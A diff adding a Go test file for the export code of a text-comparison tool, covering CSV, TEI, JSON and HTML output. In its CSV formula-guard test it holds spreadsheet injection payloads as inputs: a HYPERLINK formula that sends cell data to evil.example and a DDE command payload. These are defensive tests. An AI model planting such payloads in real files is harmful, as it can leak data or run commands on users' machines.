@@ -1,0 +1,404 @@
+package export
+
+import (
+	"bytes"
+	"context"
+	"encoding/csv"
+	"encoding/json"
+	"encoding/xml"
+	"slices"
+	"strconv"
+	"strings"
+	"testing"
+	"time"
+
+	"github.com/variorum/variorum/compare"
+)
+
+// textReport compares texts (all in one language unless langs says
+// otherwise) into a report with the given labels and briefing.
+func textReport(t *testing.T, texts, labels, langs []string, b Briefing) *Report {
+	t.Helper()
+	res, err := compare.Compare(context.Background(), texts, compare.Options{Languages: langs})
+	if err != nil {
+		t.Fatal(err)
+	}
+	r := &Report{Briefing: b, Result: res, Tool: "Variorum 0.1.0", Created: time.Date(2024, 7, 20, 0, 0, 0, 0, time.UTC)}
+	for i, l := range labels {
+		v := Version{Label: l}
+		if langs != nil {
+			v.Language = langs[i]
+		}
+		r.Versions = append(r.Versions, v)
+	}
+	return r
+}
+
+// TestCSVFormulaGuard: a cell that starts with = + - @ (or tab,
+// CR) is run as a formula by Excel, LibreOffice and Google Sheets. The
+// texts come from reposts on the web, so a hostile version can plant
+// =HYPERLINK(...) or a DDE payload in the researcher's spreadsheet.
+func TestCSVFormulaGuard(t *testing.T) {
+	tests := []struct {
+		name           string
+		labelA, labelB string
+		a, b           string
+	}{
+		{"inserted sentence", "first", "second",
+			"The budget was approved on Monday after a long debate.\n",
+			"The budget was approved on Monday after a long debate. =HYPERLINK(\"http://evil.example/?\"&A1,\"details\")\n"},
+		{"DDE payload", "first", "second",
+			"The budget was approved on Monday after a long debate.\n",
+			"The budget was approved on Monday after a long debate.\n\n=cmd|' /C calc'!A0\n"},
+		{"label", "first", "=1+1",
+			"The budget was approved on Monday.\n", "The budget was approved on Friday.\n"},
+		{"plus sign", "@SUM(1+1)", "+second",
+			"The budget was approved on Monday.\n", "The budget was approved on Friday.\n"},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			r := textReport(t, []string{tt.a, tt.b}, []string{tt.labelA, tt.labelB}, nil, Briefing{})
+			var b bytes.Buffer
+			if err := WriteCSV(&b, r, false); err != nil {
+				t.Fatal(err)
+			}
+			recs, err := csv.NewReader(&b).ReadAll()
+			if err != nil {
+				t.Fatal(err)
+			}
+			for _, rec := range recs[1:] {
+				for i, f := range rec {
+					if f != "" && strings.ContainsRune("=+-@\t\r", rune(f[0])) {
+						t.Errorf("column %s is a live spreadsheet formula: %q", csvHeader[i], f)
+					}
+				}
+			}
+		})
+	}
+}
+
+// TestTEISourceDesc: TEI P5 sourceDesc holds either paragraphs or
+// lists and bibliographic elements, never both (tei_all.rng: "element
+// listWit not allowed here; expected the element end-tag or element ab
+// or p"). The briefing line is a <p> before <listWit>, so every briefing
+// with a date, place or speakers (the sample's included) is invalid TEI.
+func TestTEISourceDesc(t *testing.T) {
+	tests := []struct {
+		name string
+		b    Briefing
+	}{
+		{"no briefing line", Briefing{Title: "T"}},
+		{"date", Briefing{Title: "T", Date: "2024-06-21"}},
+		{"place and speakers", Briefing{Title: "T", Place: "Almaty", Speakers: "S. Lavrov"}},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			r := textReport(t, []string{"One two three.\n", "One two four.\n"}, []string{"a", "b"}, nil, tt.b)
+			var buf bytes.Buffer
+			if err := WriteTEI(&buf, r); err != nil {
+				t.Fatal(err)
+			}
+			out := buf.String()
+			start, end := strings.Index(out, "<sourceDesc>"), strings.Index(out, "</sourceDesc>")
+			var sd struct {
+				Inner []struct{ XMLName xml.Name } `xml:",any"`
+			}
+			if err := xml.Unmarshal([]byte(out[start:end+len("</sourceDesc>")]), &sd); err != nil {
+				t.Fatal(err)
+			}
+			var p, lists bool
+			for _, c := range sd.Inner {
+				switch c.XMLName.Local {
+				case "p", "ab":
+					p = true
+				default:
+					lists = true
+				}
+			}
+			if p && lists {
+				t.Errorf("sourceDesc mixes <p> with <listWit>: invalid TEI P5\n%s", out[start:end])
+			}
+		})
+	}
+}
+
+// TestJSONRowsCountFromOne: in the JSON export a change's "row" counts from 1
+// and a finding's "row" (and "last_row") from 0, under one name in one
+// document; the alignment array is indexed from 0.
+func TestJSONRowsCountFromOne(t *testing.T) {
+	ru := "Министр прибыл в Алматы в пятницу утром.\n\nОн провёл переговоры с коллегами из пяти стран.\n\nВстреча продолжалась четыре часа.\n"
+	ru2 := "Министр прибыл в Алматы в субботу утром.\n\nОн провёл переговоры с коллегами из пяти стран.\n\nВстреча продолжалась четыре часа.\n"
+	en := "The minister arrived in Almaty on Friday morning.\n\nHe held talks with colleagues from five countries.\n\nThe meeting lasted 9 hours.\n"
+	r := textReport(t, []string{ru, ru2, en}, []string{"ru", "ru2", "en"}, []string{"ru", "ru", "en"}, Briefing{})
+	r.Findings = compare.CheckTranslations(r.Result)
+	var b bytes.Buffer
+	if err := WriteJSON(&b, r); err != nil {
+		t.Fatal(err)
+	}
+	var doc struct {
+		Changes []struct {
+			Row    int `json:"row"`
+			AStart int `json:"a_start"`
+		} `json:"changes"`
+		Findings []struct {
+			Row  int    `json:"row"`
+			Kind string `json:"kind"`
+		} `json:"findings"`
+		Alignment []struct {
+			Cells []*struct{ Start, End int } `json:"cells"`
+		} `json:"alignment"`
+	}
+	if err := json.Unmarshal(b.Bytes(), &doc); err != nil {
+		t.Fatal(err)
+	}
+	rowOfBase := func(pos int) int { // 0-based alignment index of the base byte pos
+		for i, row := range doc.Alignment {
+			if c := row.Cells[0]; c != nil && c.Start <= pos && pos < c.End {
+				return i
+			}
+		}
+		return -1
+	}
+	tests := []struct {
+		what    string
+		row     int // as the JSON says
+		index   int // alignment index the item is on
+		present bool
+	}{}
+	for _, c := range doc.Changes {
+		tests = append(tests, struct {
+			what    string
+			row     int
+			index   int
+			present bool
+		}{"change", c.Row, rowOfBase(c.AStart), true})
+	}
+	for _, f := range doc.Findings {
+		if f.Kind == "number" { // "meeting lasted 9 hours" vs "четыре": row 3
+			tests = append(tests, struct {
+				what    string
+				row     int
+				index   int
+				present bool
+			}{"finding", f.Row, 2, true})
+		}
+	}
+	if len(tests) < 2 {
+		t.Skipf("need a change and a number finding, have %+v", tests)
+	}
+	first := tests[0].row - tests[0].index
+	for _, tt := range tests {
+		if tt.row-tt.index != first {
+			t.Errorf("a %s on alignment[%d] has row %d, a %s on alignment[%d] has row %d: two numberings of \"row\" in one document",
+				tests[0].what, tests[0].index, tests[0].row, tt.what, tt.index, tt.row)
+		}
+	}
+}
+
+// teiWitnesses rebuilds each witness's text from a parallel-segmentation
+// body: the <seg>s every witness shares and the <rdg>s that name it.
+func teiWitnesses(t *testing.T, doc []byte, n int) []string {
+	t.Helper()
+	dec := xml.NewDecoder(bytes.NewReader(doc))
+	out := make([][]string, n)
+	var wits []int // witnesses of the element being read; nil: all
+	inBody := false
+	for {
+		tok, err := dec.Token()
+		if err != nil {
+			break
+		}
+		switch tok := tok.(type) {
+		case xml.StartElement:
+			switch tok.Name.Local {
+			case "body":
+				inBody = true
+			case "rdg":
+				wits = wits[:0]
+				for _, a := range tok.Attr {
+					if a.Name.Local == "wit" {
+						for _, w := range strings.Fields(a.Value) {
+							var k int
+							for _, c := range strings.TrimPrefix(w, "#w") {
+								k = 10*k + int(c-'0')
+							}
+							wits = append(wits, k-1)
+						}
+					}
+				}
+			case "seg":
+				wits = nil
+			}
+		case xml.EndElement:
+			if tok.Name.Local == "rdg" || tok.Name.Local == "seg" {
+				wits = []int{-2}
+			}
+		case xml.CharData:
+			if !inBody || len(wits) == 1 && wits[0] == -2 {
+				continue
+			}
+			if wits == nil {
+				for v := range out {
+					out[v] = append(out[v], string(tok))
+				}
+				continue
+			}
+			for _, v := range wits {
+				out[v] = append(out[v], string(tok))
+			}
+		}
+	}
+	res := make([]string, n)
+	for v := range out {
+		res[v] = strings.Join(strings.Fields(strings.Join(out[v], " ")), " ")
+	}
+	return res
+}
+
+// TestTEIWitnessesReadInOrder: parallel segmentation must let a reader (or
+// CollateX, Juxta, EVT) read each witness's text back in its own order.
+// A moved passage is written once, at the base's place: with two versions
+// as a plain <seg> both witnesses share (no <app> at all, so the TEI says
+// the texts are identical), with more versions in the base's <rdg>; the
+// moving version's text comes out in the base's order and the move is lost.
+func TestTEIWitnessesReadInOrder(t *testing.T) {
+	p1 := "The ministers met in Almaty on Friday to prepare the November summit in Astana."
+	p2 := "They approved a statement on the eightieth anniversary of the liberation of Belarus and another on the Middle East."
+	p3 := "The next meeting of the council will be held in Minsk in the spring of next year, the chairman said."
+	tests := []struct {
+		name string
+		a, b string
+	}{
+		{"paragraph moved up", p1 + "\n\n" + p2 + "\n\n" + p3 + "\n", p3 + "\n\n" + p1 + "\n\n" + p2 + "\n"},
+		{"paragraph moved down", p1 + "\n\n" + p2 + "\n\n" + p3 + "\n", p2 + "\n\n" + p3 + "\n\n" + p1 + "\n"},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			r := textReport(t, []string{tt.a, tt.b}, []string{"a", "b"}, nil, Briefing{})
+			moves := 0
+			for _, c := range r.Result.Changes {
+				if c.Kind == compare.Move {
+					moves++
+				}
+			}
+			if moves == 0 {
+				t.Skip("no move found by the engine")
+			}
+			var buf bytes.Buffer
+			if err := WriteTEI(&buf, r); err != nil {
+				t.Fatal(err)
+			}
+			got := teiWitnesses(t, buf.Bytes(), 2)
+			for v, text := range []string{tt.a, tt.b} {
+				if want := strings.Join(strings.Fields(text), " "); got[v] != want {
+					t.Errorf("witness w%d reads\n  %q\nwant\n  %q", v+1, got[v], want)
+				}
+			}
+		})
+	}
+}
+
+// TestHTMLColumnsReadInOrder: the report promises the aligned columns "as
+// the window shows them"; the window lays moves out with
+// Result.MovesInPlace, so each column reads in its version's own order
+// with "moved here from row N" placeholders. The report uses Result.Rows,
+// where a moved passage sits only at the base's place in every column, so
+// the moving version's column reads in the base's order and nothing says
+// where the version has the passage.
+func TestHTMLColumnsReadInOrder(t *testing.T) {
+	p1 := "The ministers met in Almaty on Friday to prepare the November summit in Astana."
+	p2 := "They approved a statement on the eightieth anniversary of the liberation of Belarus and another on the Middle East."
+	p3 := "The next meeting of the council will be held in Minsk in the spring of next year, the chairman said."
+	tests := []struct {
+		name string
+		a, b string
+	}{
+		{"paragraph moved up", p1 + "\n\n" + p2 + "\n\n" + p3 + "\n", p3 + "\n\n" + p1 + "\n\n" + p2 + "\n"},
+		{"paragraph moved down", p1 + "\n\n" + p2 + "\n\n" + p3 + "\n", p2 + "\n\n" + p3 + "\n\n" + p1 + "\n"},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			r := textReport(t, []string{tt.a, tt.b}, []string{"a", "b"}, nil, Briefing{})
+			var buf bytes.Buffer
+			if err := WriteHTML(&buf, r); err != nil {
+				t.Fatal(err)
+			}
+			s := buf.String()
+			s = s[strings.Index(s, `<table class="aligned">`):]
+			s = s[:strings.Index(s, "</table>")]
+			var col []string
+			for _, tr := range strings.Split(s, "<tr")[2:] {
+				tds := strings.Split(tr, "<td")
+				if len(tds) < 4 {
+					continue
+				}
+				if strings.HasPrefix(tds[3], ` class="empty"`) {
+					continue // no text, or a placeholder saying where the passage went
+				}
+				cell := tds[3][strings.Index(tds[3], ">")+1:]
+				var b strings.Builder
+				for in := false; cell != ""; cell = cell[1:] {
+					switch {
+					case cell[0] == '<':
+						in = true
+					case cell[0] == '>':
+						in = false
+					case !in:
+						b.WriteByte(cell[0])
+					}
+				}
+				col = append(col, b.String())
+			}
+			got := strings.Join(strings.Fields(strings.Join(col, " ")), " ")
+			if want := strings.Join(strings.Fields(tt.b), " "); got != want {
+				t.Errorf("column b reads\n  %q\nversion b is\n  %q", got, want)
+			}
+			if !strings.Contains(s, "moved here from row") || !strings.Contains(s, " to row ") {
+				t.Error("no placeholders say where the moved passage went")
+			}
+		})
+	}
+}
+
+// TestCSVFieldsAreTheText: a change's text keeps its line breaks (Go's
+// CRLF mode would turn them into CRLF, and the field would no longer be
+// the bytes its offsets span), and versions with one label are told apart
+// by number.
+func TestCSVFieldsAreTheText(t *testing.T) {
+	a := "The ministers met in Almaty on Friday.\n"
+	b := "The ministers met in Almaty on Friday.\n\nThey agreed on the agenda.\nAnd on the date.\n"
+	r := textReport(t, []string{a, b, b}, []string{"report", "report", "report"}, nil, Briefing{})
+	var buf bytes.Buffer
+	if err := WriteCSV(&buf, r, false); err != nil {
+		t.Fatal(err)
+	}
+	if bytes.Contains(buf.Bytes(), []byte("\r")) { // a reader would fold CRLF back
+		t.Errorf("carriage returns in the CSV, which the texts do not have:\n%q", buf.String())
+	}
+	recs, err := csv.NewReader(&buf).ReadAll()
+	if err != nil {
+		t.Fatal(err)
+	}
+	col := func(name string) int { return slices.Index(csvHeader, name) }
+	var pairs []string
+	for _, rec := range recs[1:] {
+		after := rec[col("after")]
+		from, to := rec[col("to_start")], rec[col("to_end")]
+		if len(after) != atoiT(t, to)-atoiT(t, from) {
+			t.Errorf("after %q does not span bytes %s-%s", after, from, to)
+		}
+		pairs = append(pairs, rec[col("from_version")]+">"+rec[col("to_version")])
+	}
+	if !slices.Contains(pairs, "1>2") || !slices.Contains(pairs, "1>3") {
+		t.Errorf("version numbers of the changes: %v, want 1>2 and 1>3", pairs)
+	}
+}
+
+func atoiT(t *testing.T, s string) int {
+	t.Helper()
+	n, err := strconv.Atoi(s)
+	if err != nil {
+		t.Fatal(err)
+	}
+	return n
+}
